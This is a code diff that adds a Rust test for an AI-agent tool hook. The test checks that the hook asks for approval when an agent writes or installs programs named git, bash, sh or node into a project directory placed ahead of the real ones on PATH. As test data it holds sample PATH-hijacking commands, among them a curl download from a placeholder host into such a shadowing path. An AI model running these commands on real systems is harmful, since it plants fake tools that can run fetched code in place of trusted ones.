@@ -100,3 +100,45 @@ fn a_prompt_from_a_process_of_another_session_is_marked_and_is_not_the_users() {
         assert!(!record.contains("foreign"), "{record}");
     }
 }
+
+#[test]
+fn a_program_that_would_be_found_before_the_real_one_is_asked_about() {
+    let place = Place::new();
+    let tools = place.project().join("tools");
+    std::fs::create_dir_all(&tools).unwrap();
+    let judge = |tool: &str, input: serde_json::Value| {
+        let payload = json!({
+            "hook_event_name": "PreToolUse", "session_id": "s", "transcript_path": "/t", "cwd": place.project(),
+            "tool_name": tool, "tool_use_id": "toolu_1", "tool_input": input,
+        });
+        let mut command = place.command(&["hooks", "pre-tool", "--stdin"]);
+        command.env("PATH", format!("{}:/usr/bin:/bin", tools.display()));
+        let answer = common::send(command, payload.to_string().as_bytes()).json();
+        answer["hookSpecificOutput"]["permissionDecision"].as_str().unwrap_or("none").to_owned()
+    };
+    for name in ["context-graph", "git", "bash", "sh", "node"] {
+        let file = tools.join(name);
+        assert_eq!(
+            judge("Write", json!({"file_path": file, "content": "#!/bin/sh\nexit 0\n"})),
+            "ask",
+            "{name}"
+        );
+        for command in [
+            format!("cp /bin/true tools/{name}"),
+            format!("install -m 755 x tools/{name}"),
+            format!("echo exit > tools/{name}"),
+            format!("curl -so tools/{name} https://a.example/x"),
+        ] {
+            assert_eq!(judge("Bash", json!({"command": command})), "ask", "{command}");
+        }
+    }
+    for command in [
+        "cp x tools/build",
+        "cp /bin/true scripts/git",
+        "pip install requests",
+        "cargo install ripgrep",
+        "npm i -g pnpm",
+    ] {
+        assert_eq!(judge("Bash", json!({"command": command})), "none", "{command}");
+    }
+}
